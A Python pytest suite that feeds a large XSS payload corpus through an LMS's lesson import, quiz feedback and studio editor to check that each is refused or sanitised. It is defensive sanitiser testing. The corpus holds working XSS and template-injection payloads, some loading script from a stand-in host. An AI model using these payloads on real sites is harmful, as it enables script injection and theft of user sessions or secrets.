"""A corpus of XSS payloads pushed through every way trainer text reaches a page.

Three paths, each batched so the whole corpus costs a handful of imports:

(a) lesson files imported with ``import_content`` (one file per payload, one import), then the lesson
    page a diplomat receives;
(b) option feedback and general feedback of a markdown quiz (one question per payload, one import),
    then the review page a diplomat receives after submitting;
(c) the studio lesson editor: Preview and Save as a trainer, then the preview response and the
    published lesson page.

An import or a save may refuse a payload (ContentError / 422 naming the file or field and line): that
counts as neutralised. Otherwise the part of the page carrying the text must be clean, and the whole
page must carry nothing unsafe that the same page with harmless text does not carry.
"""
from __future__ import annotations

import re
import shutil
from collections import Counter
from dataclasses import dataclass, field
from html.parser import HTMLParser

import markdown
import pytest

from lms.accounts import create_user
from lms.content.importer import import_content
from lms.content.render import EXTENSIONS
from lms.documents.errors import ContentError
from lms.extensions import db
from tests.fixtures.databases import app_on_copy
from tests.helpers import DATA, PASSWORD, SQUARE_SVG, csrf_token, submit

# The corpus is imported once per worker for each path: keep its tests on one worker (make test: --dist loadgroup).
pytestmark = pytest.mark.xdist_group("xss-corpus")

# id -> payload. Relative image names (square.svg) exist beside every lesson used below.
PAYLOADS: dict[str, str] = {
    # <script> in several spellings
    "script-plain": "<script>alert(1)</script>",
    "script-upper-src": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "script-mixed-case-attrs": '<ScRiPt type="text/javascript">alert(1)</sCrIpT>',
    "script-slash-attr": "<script/xss src=https://evil.example/x.js></script>",
    "script-nested-broken": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-double-bracket": "<<script>alert(1)//<</script>",
    "script-unclosed": "<script>alert(1)",
    "script-newline-in-tag": "<script\n>alert(1)</script\n>",
    "script-in-markdown-html-block": '<div markdown="1"><script>alert(1)</script></div>',
    # event handlers
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-real-image": '<img src="square.svg" alt="sq" onerror="alert(1)">',
    "img-onerror-no-quotes-slash": "<img/src=square.svg/alt=sq/onerror=alert(1)>",
    "img-onload-upper": '<IMG SRC="square.svg" ALT="sq" ONLOAD="alert(1)">',
    "svg-onload": "<svg onload=alert(1)>",
    "svg-slash-onload": "<svg/onload=alert(1)//",
    "body-onload": "<body onload=alert(1)>",
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>s</summary></details>",
    "video-onerror": "<video><source onerror=alert(1)></video>",
    "video-poster-javascript": '<video poster="javascript:alert(1)" onloadstart=alert(1)></video>',
    "a-onclick": '<a href="#top" onclick="alert(1)">click</a>',
    "span-onmouseover-upper": '<span ONMOUSEOVER="alert(1)">hover</span>',
    "div-onpointerenter-tab": "<div\tonpointerenter=alert(1)>hover</div>",
    "attr-list-onclick": '[click](#top){: onclick="alert(1)" }',
    # URL schemes
    "href-javascript": '<a href="javascript:alert(1)">x</a>',
    "href-javascript-mixed-case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "href-javascript-leading-space": '<a href="   javascript:alert(1)">x</a>',
    "href-javascript-leading-control": '<a href="\x01\x0ejavascript:alert(1)">x</a>',
    "href-javascript-tab-in-scheme": '<a href="java\tscript:alert(1)">x</a>',
    "href-javascript-newline-in-scheme": '<a href="java\nscript:alert(1)">x</a>',
    "href-javascript-entity-decimal":
        "<a href=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>x</a>",
    "href-javascript-entity-hex-colon": '<a href="javascript&#x3A;alert(1)">x</a>',
    "href-javascript-entity-tab": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "href-javascript-entity-no-semicolon": '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>',
    "href-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "href-vbscript-upper": '<a href="VBSCRIPT:msgbox(1)">x</a>',
    "href-data-html-base64": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "href-data-html-mixed-case": '<a href="DaTa:TeXt/HtMl,<script>alert(1)</script>">x</a>',
    "img-src-data-svg": '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x">',
    "md-link-javascript": "[click](javascript:alert(1))",
    "md-link-javascript-angle": "[click](<javascript:alert(1)>)",
    "md-link-javascript-entity": "[click](&#x6A;avascript:alert(1))",
    "md-link-javascript-title-break": '[click](javascript:alert(1) "t")',
    "md-link-data-html": "[click](data:text/html,<script>alert(1)</script>)",
    "md-reference-javascript": "[click][evil]\n\n[evil]: javascript:alert(1)",
    "md-image-javascript": "![sq](javascript:alert(1))",
    "md-image-data": "![sq](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "md-autolink-javascript": "<javascript:alert(1)>",
    "md-image-alt-breakout": '![x" onerror="alert(1)](square.svg)',
    "md-link-title-breakout": '[x](#top "a\\" onclick=\\"alert(1)")',
    # SVG and MathML tricks
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-a-xlink": '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="10">x</text></a></svg>',
    "svg-animate-href": '<svg><animate attributeName="href" values="javascript:alert(1)"/><a><text>x</text></a></svg>',
    "svg-foreignobject": "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "math-xlink": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "math-mtext-mglyph-style":
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    # embedding and navigation
    "iframe-javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "object-data": '<object data="javascript:alert(1)"></object>',
    "embed-src": '<embed src="data:text/html,<script>alert(1)</script>">',
    "form-action-javascript": '<form action="javascript:alert(1)"><button>Go</button></form>',
    "form-formaction": '<form><button formaction="javascript:alert(1)">Go</button></form>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base-href": '<base href="javascript:alert(1)//">',
    "link-stylesheet": '<link rel="stylesheet" href="javascript:alert(1)">',
    # styles
    "style-expression": "<style>p{width:expression(alert(1))}</style>",
    "style-url-javascript": "<style>body{background:url(javascript:alert(1))}</style>",
    "style-attribute-url": '<div style="background:url(javascript:alert(1))">styled</div>',
    "style-import": '<style>@import "https://evil.example/x.css";</style>',
    # broken markup and attribute breaking
    "attr-break-double-quote": '<img src="square.svg" alt="x"" onerror="alert(1)">',
    "attr-break-single-quote": "<img src='square.svg' alt='x'' onerror='alert(1)'>",
    "attr-break-backtick": "<img src=`x` onerror=`alert(1)` alt=x>",
    "unclosed-img-onerror": "<img src=x onerror=alert(1)//",
    "comment-breakout": "<!--><script>alert(1)</script>-->",
    "cdata-breakout": "<![CDATA[><script>alert(1)</script>]]>",
    "noscript-breakout": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "title-breakout": "</title><script>alert(1)</script>",
    "textarea-breakout": "</textarea><script>alert(1)</script>",
    "null-entity-in-tag": "<scr&#0;ipt>alert(1)</scr&#0;ipt>",
    "code-span-then-html": "`code` <img src=x onerror=alert(1)> `code`",
    # template-like injection: must come out as text, never evaluated
    "template-jinja-expr": "{{ 7*191 }}",
    "template-jinja-config": "{{ config.SECRET_KEY }} {{ config }}",
    "template-jinja-stmt": "{% print(7*191) %}",
    "template-dollar": "${7*191} #{7*191}",
    "template-in-attribute": '<a href="{{ 7*191 }}" title="{{ config.SECRET_KEY }}">t</a>',
}
TEMPLATE_IDS = {name for name in PAYLOADS if name.startswith("template-")}
# Text that only appears if a template engine evaluated a payload.
EVALUATED = ["1337", "test-secret-key", "SQLALCHEMY_DATABASE_URI"]

BEFORE, AFTER = "Harmless words before.", "Harmless words after."


def body_for(payload: str) -> str:
    return f"{BEFORE}\n\n{payload}\n\n{AFTER}\n"


# --- what "clean" means ---------------------------------------------------------------------------------

FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "form", "meta", "base", "style", "link", "svg", "math",
                  "frame", "frameset", "applet", "noscript", "template", "button", "input", "textarea", "video",
                  "source", "body"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "poster", "data", "xlink:href", "background", "srcset"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
C0_AND_SPACE = "".join(map(chr, range(0x21)))


def url_as_browser_reads(value: str) -> str:
    """As the WHATWG URL parser does: trim C0 controls and spaces, drop every tab and newline.

    (Spaces or other controls left *inside* a scheme make it no scheme at all: a relative URL.)
    """
    return re.sub(r"[\t\n\r]", "", value.strip(C0_AND_SPACE)).lower()


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in FORBIDDEN_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.found.append(f"<{tag} {name}>")
            elif name in URL_ATTRIBUTES and value is not None:
                squeezed = url_as_browser_reads(value)
                if squeezed.startswith(BAD_SCHEMES):
                    self.found.append(f"<{tag} {name}={value!r}>")

    handle_startendtag = handle_starttag


def unsafe(html: str) -> list[str]:
    """Everything in ``html`` that could run script or leave the page; [] when clean."""
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector.found


def assert_clean(fragment: str, *, payload_id: str) -> None:
    assert unsafe(fragment) == [], fragment
    leaked = [text for text in EVALUATED if text in fragment]
    assert leaked == [], (payload_id, leaked, fragment)


def assert_adds_nothing(page: str, baseline: str) -> None:
    """The whole page carries no unsafe part that the same page with harmless text lacks."""
    added = Counter(unsafe(page)) - Counter(unsafe(baseline))
    assert not added, dict(added)


def article(page: str) -> str:
    match = re.search(r'<article class="prose">(.*?)</article>', page, re.S)
    assert match, "the page has no <article class=\"prose\">"
    return match.group(1)


# Payloads that python-markdown itself already escapes or breaks (kept: a later markdown or sanitiser
# change could make them live), so the guard below cannot demand that they render unsafe.
DEFUSED_BY_MARKDOWN = {"attr-break-double-quote", "attr-break-single-quote", "svg-slash-onload",
                       "unclosed-img-onerror", "md-image-alt-breakout", "md-link-title-breakout",
                       "md-autolink-javascript", "null-entity-in-tag", "attr-break-backtick",
                       "href-javascript-tab-in-scheme"}  # markdown expands the tab to spaces: no scheme
# What a browser's parser sees but html.parser does not (``<!-->`` ends a comment, ``/`` separates
# attributes, backticks do not quote): a looser look at the raw, unsanitised output for the guard only.
LOOSE_RAW = re.compile(r"<script|<[^<>]*[\s/\"'`]on[a-z]+\s*=", re.I)


@pytest.mark.parametrize("payload_id", sorted(set(PAYLOADS) - TEMPLATE_IDS - DEFUSED_BY_MARKDOWN))
def test_payload_is_dangerous_without_the_sanitiser(payload_id):
    """Guards the corpus and the check: each payload, rendered by plain markdown, is seen as unsafe."""
    raw = markdown.markdown(body_for(PAYLOADS[payload_id]), extensions=EXTENSIONS)
    assert unsafe(raw) or LOOSE_RAW.search(raw), raw


def test_corpus_is_large_and_distinct():
    assert len(PAYLOADS) >= 50
    assert len(set(PAYLOADS) - TEMPLATE_IDS - DEFUSED_BY_MARKDOWN) >= 50
    assert len(set(PAYLOADS.values())) == len(PAYLOADS)


# --- a private app per path, built once per module (per worker) -----------------------------------------------------

@dataclass
class Outcome:
    """What one payload became on one path."""

    refused: list = field(default_factory=list)  # problems, when refused
    fragment: str | None = None  # the HTML carrying the text, when shown
    page: str | None = None  # the whole page it was shown on
    status: int | None = None
    extra: dict = field(default_factory=dict)


def _user_client(app, role: str, email: str):
    with app.app_context():
        create_user(email, "Corpus User", PASSWORD, [role], None)
        db.session.commit()
    client = app.test_client()
    response = submit(client, "/login", "/login", {"email": email, "password": PASSWORD})
    assert response.status_code == 302
    return client


def _import_until_accepted(app, write, ids: list[str], owner_of) -> tuple[list[str], dict[str, list]]:
    """Import the batch; drop the payloads a ContentError names and import the rest again.

    ``write(ids)`` writes the files for ``ids`` and returns the import arguments; ``owner_of(problem)``
    names the payload a problem belongs to (or None: then the refusal is not the payload's own).
    """
    refused: dict[str, list] = {}
    for _ in range(5):
        args = write(ids)
        with app.app_context():
            try:
                import_content(*args)
            except ContentError as exc:
                db.session.rollback()
                strays = [p for p in exc.problems if owner_of(p) not in ids]
                assert not strays, f"refusal not tied to a payload: {strays}"
                for problem in exc.problems:
                    refused.setdefault(owner_of(problem), []).append(problem)
                ids = [i for i in ids if i not in refused]
                continue
            db.session.commit()
            return ids, refused
    raise AssertionError("the import kept refusing")


# (a) lesson files ----------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def lesson_outcomes(tmp_path_factory, databases) -> dict[str, Outcome]:
    folder = tmp_path_factory.mktemp("xss-lessons")
    names = {pid: f"p{n:03d}" for n, pid in enumerate(PAYLOADS, start=1)}
    by_file = {f"courses/c/01-m/{n[1:]}-{n}.md": pid for pid, n in names.items()}

    def write(ids):
        root = folder / "courses"
        shutil.rmtree(root, ignore_errors=True)
        (root / "c/01-m").mkdir(parents=True)
        (root / "c/course.md").write_text("---\ntitle: C\nsummary: S.\n---\n")
        (root / "c/01-m/module.md").write_text("---\ntitle: M\nsummary: S.\n---\n")
        (root / "c/01-m/square.svg").write_text(SQUARE_SVG)
        for pid in ids:
            name = names[pid]
            text = f"---\ntitle: Lesson {name}\nminutes: 5\n---\n{body_for(PAYLOADS[pid])}"
            (root / f"c/01-m/{name[1:]}-{name}.md").write_text(text, encoding="utf-8")
        return (root,)

    with app_on_copy(databases, "empty", folder) as app:
        accepted, refused = _import_until_accepted(app, write, list(PAYLOADS), lambda p: by_file.get(p.path))
        diplomat = _user_client(app, "diplomat", "diplomat@example.org")
        outcomes = {pid: Outcome(refused=problems) for pid, problems in refused.items()}
        for pid in refused:
            outcomes[pid].status = diplomat.get(f"/courses/c/m/{names[pid]}").status_code
        for pid in accepted:
            response = diplomat.get(f"/courses/c/m/{names[pid]}")
            page = response.get_data(as_text=True)
            outcomes[pid] = Outcome(fragment=article(page) if response.status_code == 200 else None, page=page,
                                    status=response.status_code)
        baseline_name = names[accepted[0]] if accepted else None
        baseline = diplomat.get(f"/courses/c/m/{baseline_name}").get_data(as_text=True) if baseline_name else ""
        for outcome in outcomes.values():
            outcome.extra["baseline"] = baseline
    return outcomes


@pytest.mark.parametrize("payload_id", list(PAYLOADS))
def test_lesson_file_payload_is_neutralised(lesson_outcomes, payload_id):
    outcome = lesson_outcomes[payload_id]
    if outcome.refused:
        for problem in outcome.refused:
            assert problem.line >= 1 and problem.path.endswith(".md"), problem
        assert outcome.status == 404  # nothing of a refused file reached a page
        return
    assert outcome.status == 200
    assert_clean(outcome.fragment, payload_id=payload_id)
    assert BEFORE in outcome.fragment
    # The lesson pages differ only in their text, so the page adds nothing unsafe around the article either.
    assert_adds_nothing(outcome.page.replace(outcome.fragment, ""),
                        outcome.extra["baseline"].replace(article(outcome.extra["baseline"]), ""))


def test_enough_lesson_payloads_reach_a_page(lesson_outcomes):
    """Refusing everything would make the lesson checks vacuous."""
    shown = [pid for pid, outcome in lesson_outcomes.items() if not outcome.refused]
    assert len(shown) >= 30, shown


# (b) quiz feedback ---------------------------------------------------------------------------------------

QUIZ_URL = "/courses/intro-course/basics/quiz"


def _quiz_text(ids: list[str], lines: dict[int, str]) -> str:
    """A quiz with one single-choice question per payload: in the picked option's feedback and the
    general feedback. Fills ``lines`` with file line -> payload id."""
    out = ["---", "title: Corpus quiz", "pass_mark: 50", "attempts: unlimited", "reveal: after_each_attempt",
           "---", ""]
    for pid in ids:
        start = len(out) + 1
        payload_lines = PAYLOADS[pid].split("\n")
        out += [f"## Question {pid}?", "", f"- [x] Right {pid}", f"  > Option feedback {pid}.", "  >"]
        out += [f"  > {line}" for line in payload_lines]
        out += [f"- [ ] Wrong {pid}", "", f"Feedback: General feedback {pid}.", ""]
        out += [*payload_lines, ""]
        for number in range(start, len(out) + 1):
            lines[number] = pid
    return "\n".join(out) + "\n"


@pytest.fixture(scope="module")
def quiz_outcomes(tmp_path_factory, databases) -> dict[str, Outcome]:
    folder = tmp_path_factory.mktemp("xss-quiz")
    courses = folder / "courses"
    shutil.copytree(DATA / "courses", courses)
    quizzes = folder / "quizzes"
    line_owner: dict[int, str] = {}

    def write(ids):
        line_owner.clear()
        (quizzes / "intro-course").mkdir(parents=True, exist_ok=True)
        (quizzes / "intro-course/basics.md").write_text(_quiz_text(ids, line_owner), encoding="utf-8")
        return courses, quizzes

    def owner_of(problem):
        return line_owner.get(problem.line) if problem.path.endswith("basics.md") else None

    with app_on_copy(databases, "empty", folder) as app:
        accepted, refused = _import_until_accepted(app, write, list(PAYLOADS), owner_of)
        outcomes = {pid: Outcome(refused=problems) for pid, problems in refused.items()}
        diplomat = _user_client(app, "diplomat", "diplomat@example.org")
        page = diplomat.get(QUIZ_URL).get_data(as_text=True)
        response = diplomat.post(QUIZ_URL + "/start", data={"csrf_token": csrf_token(page)})
        assert response.status_code == 302, response.get_data(as_text=True)
        sheet_url = response.headers["Location"]
        sheet = diplomat.get(sheet_url).get_data(as_text=True)
        answers = {f"q{i}": "0" for i in range(len(accepted))}
        response = diplomat.post(sheet_url, data={"csrf_token": csrf_token(sheet), **answers})
        assert response.status_code == 302, response.get_data(as_text=True)
        review = diplomat.get(sheet_url + "/review")
        assert review.status_code == 200
        html = review.get_data(as_text=True)
        sections = re.findall(r'<section class="card question[^"]*" aria-labelledby="r(\d+)">(.*?)</section>',
                              html, re.S)
        assert len(sections) == len(accepted)
        for (_number, section), pid in zip(sections, accepted, strict=True):
            outcomes[pid] = Outcome(fragment=section, page=html, status=review.status_code,
                                    extra={"sheet": sheet})
        # The whole review page: cut out the question sections, the rest must be as clean as ever.
        rest = re.sub(r'<section class="card question[^"]*".*?</section>', "", html, flags=re.S)
        for pid in accepted:
            outcomes[pid].extra["rest"] = rest
    return outcomes


@pytest.mark.parametrize("payload_id", list(PAYLOADS))
def test_quiz_feedback_payload_is_neutralised(quiz_outcomes, payload_id):
    outcome = quiz_outcomes[payload_id]
    if outcome.refused:
        for problem in outcome.refused:
            assert problem.line >= 1 and problem.path.endswith("basics.md"), problem
        return
    section = outcome.fragment
    # Both feedbacks were really shown (the right option was picked; reveal is after each attempt).
    assert f"Option feedback {payload_id}." in section and f"General feedback {payload_id}." in section
    assert_clean(section, payload_id=payload_id)
    # Outside the question sections nothing of the payloads appears, and no handler or bad URL at all.
    rest = outcome.extra["rest"]
    assert f"feedback {payload_id}." not in rest
    assert [part for part in unsafe(rest) if " " in part] == []
    # The answer sheet (prompts and options only) is clean too.
    assert_clean(re.sub(r"<form.*?</form>", "", outcome.extra["sheet"], flags=re.S).split("<main", 1)[-1],
                 payload_id=payload_id)


def test_enough_quiz_payloads_reach_the_review(quiz_outcomes):
    shown = [pid for pid, outcome in quiz_outcomes.items() if not outcome.refused]
    assert len(shown) >= 30, shown


# (c) the studio lesson editor ----------------------------------------------------------------------------

STUDIO_EDIT = "/studio/courses/intro-course/modules/basics/lessons/first-steps/edit"
STUDIO_PREVIEW = "/studio/courses/intro-course/modules/basics/lessons/first-steps/preview"
LESSON_PAGE = "/courses/intro-course/basics/first-steps"
BASE_HASH = re.compile(r'name="base_hash" type="hidden" value="([^"]*)"')


def _editor_form(trainer, body: str, button: str) -> dict:
    html = trainer.get(STUDIO_EDIT).get_data(as_text=True)
    match = BASE_HASH.search(html)
    assert match, "editor page has no base_hash"
    return {"csrf_token": csrf_token(html), "base_hash": match.group(1), "title": "First steps", "minutes": "5",
            "body": body, button: button.title()}


@pytest.fixture(scope="module")
def studio_outcomes(tmp_path_factory, databases) -> dict[str, dict[str, Outcome]]:
    folder = tmp_path_factory.mktemp("xss-studio")
    outcomes: dict[str, dict[str, Outcome]] = {}
    with app_on_copy(databases, "content", folder) as app:  # the test course imported
        trainer = _user_client(app, "trainer", "trainer@example.org")
        diplomat = _user_client(app, "diplomat", "diplomat@example.org")

        def preview(body):
            response = trainer.post(STUDIO_EDIT, data=_editor_form(trainer, body, "preview"))
            return response.status_code, response.get_data(as_text=True)

        def save(body):
            response = trainer.post(STUDIO_EDIT, data=_editor_form(trainer, body, "save"))
            return response.status_code, response.get_data(as_text=True)

        _, preview_baseline = preview(body_for("Nothing special."))
        assert save(body_for("Nothing special."))[0] == 302
        lesson_baseline = diplomat.get(LESSON_PAGE).get_data(as_text=True)
        saved_preview_baseline = trainer.get(STUDIO_PREVIEW).get_data(as_text=True)

        for pid, payload in PAYLOADS.items():
            body = body_for(payload)
            result = outcomes[pid] = {}
            status, html = preview(body)
            result["preview"] = Outcome(status=status, page=html, extra={"baseline": preview_baseline},
                                        fragment=article(html) if status == 200 else None)
            status, html = save(body)
            result["save"] = Outcome(status=status, page=html, extra={"baseline": preview_baseline})
            if status == 302:
                page = diplomat.get(LESSON_PAGE)
                result["lesson"] = Outcome(status=page.status_code, page=page.get_data(as_text=True),
                                           extra={"baseline": lesson_baseline})
                result["lesson"].fragment = article(result["lesson"].page)
                saved = trainer.get(STUDIO_PREVIEW)
                result["saved-preview"] = Outcome(status=saved.status_code, page=saved.get_data(as_text=True),
                                                  extra={"baseline": saved_preview_baseline})
                result["saved-preview"].fragment = article(result["saved-preview"].page)
    return outcomes


def _check_refused_editor_page(outcome: Outcome) -> None:
    assert outcome.status == 422, outcome.status
    assert "Preview (not saved)" not in outcome.page
    assert re.search(r"line \d+:", outcome.page), "a refusal names the line"
    assert_adds_nothing(outcome.page, outcome.extra["baseline"])


@pytest.mark.parametrize("payload_id", list(PAYLOADS))
def test_studio_preview_payload_is_neutralised(studio_outcomes, payload_id):
    outcome = studio_outcomes[payload_id]["preview"]
    if outcome.status != 200:
        _check_refused_editor_page(outcome)
        return
    assert "Preview (not saved)" in outcome.page
    assert_clean(outcome.fragment, payload_id=payload_id)
    assert BEFORE in outcome.fragment
    assert_adds_nothing(outcome.page, outcome.extra["baseline"])


@pytest.mark.parametrize("payload_id", list(PAYLOADS))
def test_studio_saved_payload_is_neutralised(studio_outcomes, payload_id):
    result = studio_outcomes[payload_id]
    save = result["save"]
    # Preview and Save run the same checks: a text previewed fine is saved, a refused one is refused.
    assert (save.status == 302) == (result["preview"].status == 200), (save.status, result["preview"].status)
    if save.status != 302:
        _check_refused_editor_page(save)
        return
    for where in ("lesson", "saved-preview"):
        outcome = result[where]
        assert outcome.status == 200, where
        assert_clean(outcome.fragment, payload_id=payload_id)
        assert BEFORE in outcome.fragment, where
        assert_adds_nothing(outcome.page.replace(outcome.fragment, ""),
                            outcome.extra["baseline"].replace(article(outcome.extra["baseline"]), ""))


def test_enough_studio_payloads_are_saved(studio_outcomes):
    saved = [pid for pid, result in studio_outcomes.items() if result["save"].status == 302]
    assert len(saved) >= 30, saved


# --- NUL characters: accepted on SQLite, a crash on PostgreSQL ------------------------------------------


NUL_PAYLOAD = "<scr\x00ipt>alert(1)</scr\x00ipt>"


def test_lesson_file_with_a_nul_is_refused_or_shown_clean(app, client, make_user, login, tmp_path):
    root = tmp_path / "courses"
    (root / "c/01-m").mkdir(parents=True)
    (root / "c/course.md").write_text("---\ntitle: C\nsummary: S.\n---\n")
    (root / "c/01-m/module.md").write_text("---\ntitle: M\nsummary: S.\n---\n")
    (root / "c/01-m/01-l.md").write_text(f"---\ntitle: L\nminutes: 5\n---\n{body_for(NUL_PAYLOAD)}")
    with app.app_context():
        try:
            import_content(root)
        except ContentError as exc:
            db.session.rollback()
            assert all(p.path.endswith("01-l.md") and p.line >= 1 for p in exc.problems), exc.problems
            return
        db.session.commit()
    login(make_user("diplomat"))
    page = client.get("/courses/c/m/l")
    assert page.status_code == 200
    assert_clean(article(page.get_data(as_text=True)), payload_id="nul")


def test_studio_save_with_a_nul_is_refused_or_shown_clean(app, client, content, make_user, login):
    login(make_user("trainer"))
    response = client.post(STUDIO_EDIT, data=_editor_form(client, body_for(NUL_PAYLOAD), "save"))
    assert response.status_code in (302, 422), response.status_code
    if response.status_code == 302:
        assert_clean(article(client.get(LESSON_PAGE).get_data(as_text=True)), payload_id="nul")


def test_quiz_feedback_with_a_nul_is_refused_or_imported(app, courses_dir, quizzes_dir):
    quiz = quizzes_dir / "intro-course/basics.md"
    quiz.write_text(quiz.read_text().replace("SECRET-GENERAL-FEEDBACK", NUL_PAYLOAD))
    with app.app_context():
        try:
            import_content(courses_dir, quizzes_dir)
        except ContentError as exc:
            db.session.rollback()
            assert all(p.path.endswith("basics.md") and p.line >= 1 for p in exc.problems), exc.problems
            return
        db.session.commit()
